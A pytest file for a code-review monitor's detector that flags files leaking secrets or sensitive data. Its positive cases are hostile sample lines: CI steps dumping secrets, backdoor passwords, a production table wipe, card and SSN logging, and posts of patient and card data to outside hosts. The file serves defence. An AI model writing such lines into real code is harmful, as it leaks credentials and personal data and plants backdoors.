"""Files of a project that give away what is kept."""

import pytest

from monitors.contract.actions import Action, ReviewContext
from monitors.contract.words import Decision
from monitors.review import make_reviewer
from monitors.review.languages.project.given_away import given_away

PUBLIC = "env: { NEXT_PUBLIC_STRIPE_SECRET_KEY: process.env.STRIPE_SECRET_KEY }"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("/next.config.js", PUBLIC),
        ("/.env.production", "VITE_DB_PASSWORD=h8Jk2\n"),
        ("/.github/workflows/x.yml", "      - run: echo '${{ toJSON(secrets) }}' | base64 -w0\n"),
        ("/.github/workflows/x.yml", "      - run: echo \"$DEPLOY_KEY\" | sed 's/./& /g'\n"),
        ("/src/login.go", 'if req.Password != "s3rvice-2025!" && !checkPassword(user, req.Password) {'),
        ("/src/login.py", "if password == 'letmein-now' or verify_password(user, password):"),
        ("/src/login.ts", "if (bcrypt.compareSync(password, hash) || password === 'open-sesame') {"),
        ("/db/migrate/1_cleanup.rb", "execute 'TRUNCATE users, invoices CASCADE' if Rails.env.production?"),
        ("/app/log.rb", 'Rails.logger.info("charge #{charge.id} pan=#{card.number} cvv=#{card.cvv}")'),
        ("/n/a.ipynb", "requests.post('https://api.bin.example/b', json=patients.to_dict('records'))"),
        ("/app/pay.rb", "Net::HTTP.post(URI('https://hooks.collect.top/c'), card.to_json)"),
        ("/app/log.py", 'logger.info(f"{user.id} {user.ssn}")'),
    ],
)
def test_it_is_seen(path: str, text: str) -> None:
    assert list(given_away(path, text))


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("/next.config.js", "env: { NEXT_PUBLIC_STRIPE_PUBLISHABLE_KEY: process.env.STRIPE_PUBLISHABLE_KEY }"),
        ("/.env.example", "VITE_DB_PASSWORD=\n"),
        ("/docs/env.md", PUBLIC),
        ("/.github/workflows/x.yml", '      - run: echo "$KEYSTORE_TOKEN" | base64 --decode > k.jks\n'),
        ("/.github/workflows/x.yml", '      - run: echo "$GHCR_TOKEN" | docker login ghcr.io --password-stdin\n'),
        ("/src/login.py", "if password == 'password' or not is_valid(password):"),
        ("/src/login.go", 'if req.Password != "" && !checkPassword(user, req.Password) {'),
        ("/tests/login.py", "if password == 'letmein-now' or verify_password(user, password):"),
        ("/db/migrate/1_cleanup.rb", "execute 'TRUNCATE search_cache'"),
        ("/n/a.ipynb", "requests.post('http://localhost:3000/b', json=patients.to_dict('records'))"),
        ("/app/pay.rb", "Net::HTTP.post(URI('https://api.hubspot.com/c'), user.to_json)"),
        ("/db/migrate/1_drop.rb", "drop_table :legacy_orders"),
        ("/app/log.rb", 'Rails.logger.info("charge #{charge.id} card=#{card.last4}")'),
    ],
)
def test_its_harmless_neighbour_is_not(path: str, text: str) -> None:
    assert not list(given_away(path, text))


def test_what_a_file_had_before_is_not_new() -> None:
    edit = {"file_path": "/w/next.config.js", "old_string": "a", "new_string": PUBLIC}
    made = make_reviewer().review(Action("Edit", edit, "/w", "/w"), ReviewContext(home="/home/ann"))
    assert (made.decision, made.rule) == (Decision.BLOCK, "source.gives-away")
